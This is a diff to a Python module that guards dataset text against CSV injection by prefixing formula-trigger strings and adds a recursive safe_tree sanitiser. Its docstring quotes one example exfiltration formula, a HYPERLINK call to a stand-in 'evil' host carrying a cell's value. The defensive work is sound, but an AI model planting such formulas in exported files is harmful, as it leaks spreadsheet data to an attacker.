@@ -4,11 +4,14 @@ Raw datasets carry text climb echoes into its outputs (file names in quarantine.
 label codes in sample metadata, exclusion reasons in the manifest). Two things go wrong with such
 text: file names that are not UTF-8 (Python lists them with surrogate escapes) make a strict JSON
 encoder fail, and cells such as ``=HYPERLINK("http://evil/?"&A1)`` run as formulas when someone
-exports a log or a metadata column to CSV and opens it in a spreadsheet (CSV injection). Pure
-functions, no I/O.
+exports a log or a metadata column to CSV and opens it in a spreadsheet (CSV injection). The
+engine passes every sample's metadata and tabular member through `safe_tree`, and the quarantine
+log and manifest through `spreadsheet_safe`. Pure functions, no I/O.
 """
 
 from __future__ import annotations
+
+from typing import Any
 
 FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
 
@@ -37,3 +40,14 @@ def spreadsheet_safe(text: str) -> str:
     if text.startswith(FORMULA_TRIGGERS) and not _is_number(text):
         return "'" + text
     return text
+
+
+def safe_tree(value: Any) -> Any:
+    """spreadsheet_safe applied to every string (dict keys included) of a JSON-like value."""
+    if isinstance(value, str):
+        return spreadsheet_safe(value)
+    if isinstance(value, dict):
+        return {safe_tree(k) if isinstance(k, str) else k: safe_tree(v) for k, v in value.items()}
+    if isinstance(value, (list, tuple)):
+        return [safe_tree(v) for v in value]
+    return value
